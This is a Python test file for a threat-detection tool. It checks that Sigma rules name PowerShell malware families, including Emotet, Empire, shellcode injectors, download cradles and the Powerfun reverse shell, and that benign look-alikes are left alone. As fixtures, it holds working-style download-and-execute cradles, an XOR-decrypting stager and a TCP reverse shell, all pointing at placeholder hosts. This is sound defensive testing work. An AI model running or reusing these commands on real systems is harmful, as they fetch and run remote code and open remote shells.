"""Malware families as Sigma rules over what the PowerShell analyzer recovered (category
ps_deobfuscated -> the `powershell` table): each fires on its family and not on a look-alike.
They name the family and what it does besides running PowerShell (T1105, T1055): the PowerShell
execution itself is the process rules' to name, once per event."""

from __future__ import annotations

import base64
import csv
import io
import json
from pathlib import Path

import pytest

from threatscope.detect import load_rules, run_detect
from threatscope.detect.powershell import name_families
from threatscope.ingest import ingest_paths
from threatscope.powershell.train import recovery_and_families
from threatscope.workspace import Workspace

DATA = Path(__file__).resolve().parents[2].parent / "shared" / "data" / "powershell"
EMOTET = ("$u = 'http://a.example/x/@http://b.example/y/@http://c.example/z/'.Split('@');"
          "$p = $env:userprofile + '\\\\412.exe';foreach ($x in $u) {try {"
          "(New-Object Net.WebClient).DownloadFile($x, $p);Invoke-Item $p;break} catch {}}")
EMPIRE = ("$wc=New-Object System.Net.WebClient;$wc.Headers.Add('User-Agent','Mozilla/5.0');"
          "$k='abc';$i=0;[char[]]$b=([char[]]($wc.DownloadString('http://10.0.0.5/i.asp')))|"
          "%{$_-bxor$k[$i++%$k.Length]};IEX ($b-join'')")
INJECT = ("$c='[DllImport(\"kernel32.dll\")]public static extern IntPtr VirtualAlloc(IntPtr a,"
          "uint b,uint c,uint d);[DllImport(\"kernel32.dll\")]public static extern IntPtr "
          "CreateThread(IntPtr a,uint b,IntPtr c,IntPtr d,uint e,IntPtr f);';"
          "[Byte[]]$sc = 0xfc,0xe8,0x82;$x=$w::VirtualAlloc(0,0x1000,0x3000,0x40)")
CRADLE = "IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.7/a.ps1')"
DROP = ("(New-Object System.Net.WebClient).DownloadFile('http://192.0.2.7/u.exe',"
        "\"$env:APPDATA\\u.exe\");Start-Process (\"$env:APPDATA\\u.exe\")")
POWERFUN = ("$c = New-Object System.Net.Sockets.TCPClient('192.0.2.9',4444);$s = $c.GetStream();"
            "[byte[]]$b = 0..255|%{0};while(($i = $s.Read($b, 0, $b.Length)) -ne 0){"
            "$d = (New-Object Text.ASCIIEncoding).GetString($b,0,$i);$o = (iex $d 2>&1 | "
            "Out-String);$w = [text.encoding]::ASCII.GetBytes($o);$s.Write($w,0,$w.Length)}")
CASES = [  # (recovered text, the family that must fire: None = none)
    (EMOTET, "emotet"),
    # downloads then waits: the same URL tried again, not a list split apart
    ("$W=New-Object Net.WebClient;$W.DownloadFile('http://192.0.2.7/a.exe',\"$env:temp\\a.exe\")"
     ";foreach($i in 1..3){Start-Sleep 1};Start-Process \"$env:temp\\a.exe\"", "downloader"),
    # a list of URLs probed, nothing started
    ("foreach($u in 'https://a.example/@https://b.example/'.Split('@')){"
     "Invoke-WebRequest $u -Method Head -OutFile \"$env:temp\\probe.txt\"}", None),
    (EMOTET.replace("DownloadFile", "DownloadString"), None),  # fetches, starts nothing saved
    # one URL: a plain cradle
    (EMOTET.replace("@http://b.example/y/@http://c.example/z/", ""), "downloader"),
    (EMPIRE, "empire"),
    (EMPIRE.replace("-bxor", "-band"), "downloader"),  # no decryption: a plain cradle
    (INJECT, "shellcode-injector"),
    (INJECT.replace("CreateThread", "GetProcAddress"), None),
    (CRADLE, "downloader"),
    (CRADLE.replace("IEX ", "$page = "), None),  # fetched, not run
    (DROP, "downloader"),
    (DROP.replace("Start-Process", "Write-Output"), None),
    ("Start-BitsTransfer -Source 'http://192.0.2.7/k.exe' -Destination \"$p\\k.exe\"\n"
     "Invoke-Item \"$p\\k.exe\"", "downloader"),
    # help text far from code: fetching a file, then (much later) starting an unrelated one
    ("Invoke-WebRequest $uri -OutFile $zip\n" + "# unpack\n" * 40 + "Start-Process notepad",
     None),
    (POWERFUN, "powerfun"),
    (POWERFUN.replace("iex $d", "Write-Output $d"), None),  # an echo server
    ("Get-Service | Where-Object Status -eq Running", None),
]


@pytest.fixture(scope="module")
def rules():
    rs = load_rules()
    assert not rs.failed
    return rs


def _families(rs, texts: list[str]) -> list[set[str]]:
    return [set(f) for f in name_families(texts, texts, rs)]


def test_each_family_fires_on_its_own_and_not_on_a_look_alike(rules):
    got = _families(rules, [t for t, _ in CASES])
    assert got == [{f} if f else set() for _, f in CASES]


@pytest.mark.skipif(not (DATA / "unit42_psencmds.jsonl").exists(), reason="no ../shared/data")
def test_unit42_families_and_benign_scripts(rules):
    # as detect sees them: each command line deobfuscated, the rules over what was recovered
    res = recovery_and_families(DATA, out=io.StringIO())
    assert res["family_accuracy"] >= 0.99, res["family_by_label"]  # 1,764 of 1,766 when written
    for label, n in res["family_by_label"].items():
        assert n.get("right", 0) / (n.get("right", 0) + n.get("wrong", 0)) >= 0.95, (label, n)
    with open(DATA / "manifest.csv", newline="", encoding="utf-8") as f:
        benign = [(DATA / r["file"]).read_text(encoding="utf-8", errors="replace")
                  for r in csv.DictReader(f)]
    # one of 901: PowerShell's own install script, whose help text shows how to run it straight
    # from the web (Invoke-Expression "& { $(Invoke-RestMethod 'https://aka.ms/...') }"): a
    # download cradle, in a comment
    hits = [g for g in _families(rules, benign) if g]
    assert len(hits) <= 1 and all(g == {"downloader"} for g in hits), hits


def test_the_analyzer_labels_an_encoded_cradle_with_its_family(tmp_path):
    encoded = base64.b64encode(EMOTET.encode("utf-16-le")).decode()
    event = {"Event": {"System": {
        "Provider": {"#attributes": {"Name": "Microsoft-Windows-Sysmon"}}, "EventID": 1,
        "EventRecordID": 7, "Channel": "Microsoft-Windows-Sysmon/Operational",
        "Computer": "WS01", "TimeCreated": {"#attributes": {"SystemTime": "2018-05-12T10:00:00Z"}}},
        "EventData": {"Image": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                      "CommandLine": f"powershell -w hidden -enc {encoded}"}}}
    ws = Workspace.open(tmp_path / "ws", create=True)
    (tmp_path / "e.json").write_text(json.dumps(event) + "\n")
    ingest_paths(ws, [str(tmp_path / "e.json")], org="acme")
    summary = run_detect(ws)
    with ws.connect() as con:
        rows = con.execute("SELECT detector, malware_family, attack_techniques FROM detection "
                           "WHERE malware_family IS NOT NULL OR detector = 'powershell' "
                           "ORDER BY detector").fetchall()
    # the obfuscation detection carries the family too; the family's own names what it does
    assert rows == [("powershell", "emotet", ["T1027"]),
                    ("sigma", "emotet", ["T1105"])]
    with ws.connect() as con:
        assert con.execute("SELECT obfuscated, family FROM powershell").fetchall() == [
            (True, "emotet")]
    assert summary.powershell_detections == 2
